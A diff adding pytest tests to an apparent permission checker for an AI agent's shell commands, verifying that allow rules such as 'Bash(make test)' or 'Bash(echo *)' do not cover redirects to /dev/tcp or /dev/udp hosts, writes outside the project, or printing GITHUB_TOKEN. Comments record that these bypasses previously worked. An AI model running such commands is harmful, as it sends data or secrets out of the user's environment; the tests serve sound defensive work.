@@ -105,3 +105,69 @@ def test_ordinary_upper_case_names_stay_allowed(
     make_engine: Callable[..., Engine], gk_env: GkEnv, path: str
 ) -> None:
     assert_decision(make_engine(), tool="Read", tool_input={"file_path": path}, expected="allow")
+
+
+@pytest.fixture
+def ruled(gk_env: GkEnv, make_engine: Callable[..., Engine]) -> Engine:
+    """A user who allowed `make test`, `echo *`, `cat *` and `npm run lint:*`."""
+    rules = ["Bash(make test)", "Bash(echo *)", "Bash(cat *)", "Bash(npm run lint:*)"]
+    rules_toml = ", ".join(f'"{r}"' for r in rules)
+    gk_env.write_config(f"[permissions]\nallow = [{rules_toml}]\n[reviewer]\nenabled = false\n")
+    return make_engine()
+
+
+# An allow rule vouched for a command's redirects, which it never matched: under
+# `Bash(make test)`, `make test > /dev/tcp/HOST/80` was allowed (bash: `echo rt13-sent >
+# /dev/tcp/127.0.0.1/PORT` delivered rt13-sent to a listener), and under `Bash(echo *)`
+# `echo x > ../f` wrote outside the project.
+@pytest.mark.parametrize(
+    "command",
+    [
+        "make test > /dev/tcp/10.0.0.1/80",
+        "make test 2>&1 > /dev/udp/10.0.0.1/53",
+        "cat notes.txt < /dev/tcp/10.0.0.1/80",
+        "echo hi > ../outside.txt",
+        "echo hi >> /var/log/x.log",
+        "npm run lint &> ../lint.log",
+    ],
+)
+def test_an_allow_rule_does_not_vouch_for_its_redirects(
+    ruled: Engine, gk_env: GkEnv, command: str
+) -> None:
+    decision = check(ruled, command, cwd=str(gk_env.project))
+    assert decision.outcome is not Outcome.ALLOW, decision.reason
+
+
+# A secret of the environment printed by a reader: `Bash(echo *)` allowed `echo $GITHUB_TOKEN`
+# (bash: printed the token), while `Bash(cat *)` never allowed `cat ~/.aws/credentials`.
+@pytest.mark.parametrize(
+    "command", ["echo $GITHUB_TOKEN", 'echo "t=${GITHUB_TOKEN}"', 'cat <<< "$GITHUB_TOKEN"']
+)
+def test_an_allow_rule_does_not_print_a_secret_of_the_environment(
+    ruled: Engine, gk_env: GkEnv, monkeypatch: pytest.MonkeyPatch, command: str
+) -> None:
+    monkeypatch.setenv("GITHUB_TOKEN", "ghp_" + "x" * 36)
+    decision = check(ruled, command, cwd=str(gk_env.project))
+    assert decision.outcome is not Outcome.ALLOW, decision.reason
+    assert "GK-ENV-002" in {f.rule for f in decision.findings}
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "make test",
+        "make test > build.log 2>&1",
+        "make test 2>/dev/null",
+        "make test &> /tmp/make.log",
+        "echo hi >&2",
+        "echo $HOME",
+        "cat notes.txt < notes.txt",
+        "npm run lint -- --quiet",
+    ],
+)
+def test_allow_rules_with_ordinary_redirects_stay_allowed(
+    ruled: Engine, gk_env: GkEnv, monkeypatch: pytest.MonkeyPatch, command: str
+) -> None:
+    monkeypatch.setenv("GITHUB_TOKEN", "ghp_" + "x" * 36)
+    (gk_env.project / "notes.txt").write_text("x\n")
+    assert_decision(ruled, command, expected="allow", cwd=str(gk_env.project))
